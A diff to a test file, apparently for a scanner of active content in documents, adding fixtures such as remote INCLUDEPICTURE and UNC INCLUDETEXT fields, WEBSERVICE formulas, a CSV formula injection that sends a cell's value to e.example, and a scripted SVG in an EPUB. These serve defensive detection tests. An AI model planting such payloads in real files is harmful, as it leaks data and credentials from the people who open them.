@@ -196,6 +196,32 @@ ACTIVE = {
         "a.docx",
         word("x", {"word/afchunk.html": "<script>1</script>"}),
     ),
+    "docx that includes a picture of the web": (
+        "a.docx",
+        word(
+            "x",
+            {
+                "word/document.xml": '<w:instrText>INCLUDEPICTURE "http://e.example/x.png"</w:instrText>'
+            },
+        ),
+    ),
+    "docx that includes a file of a server": (
+        "a.docx",
+        word(
+            "x", {"word/document.xml": '<w:instrText>INCLUDETEXT "\\\\e.example\\x"</w:instrText>'}
+        ),
+    ),
+    "xlsx that asks the web": (
+        "a.xlsx",
+        workbook(
+            {"xl/worksheets/sheet2.xml": '<c><f>_xlfn.WEBSERVICE("http://e.example/")</f></c>'}
+        ),
+    ),
+    "CSV that asks the web": ("a.csv", b'a,b\n=WEBSERVICE("http://e.example/"&A1),2\n'),
+    "EPUB with a drawing that runs": (
+        "a.epub",
+        archive({"META-INF/container.xml": "<x/>", "a.svg": drawing("<script>alert(1)</script>")}),
+    ),
     "xlsx with a macro sheet": ("a.xlsx", workbook({"xl/macrosheets/sheet1.xml": "<x/>"})),
     "xlsx with DDE": (
         "a.xlsx",
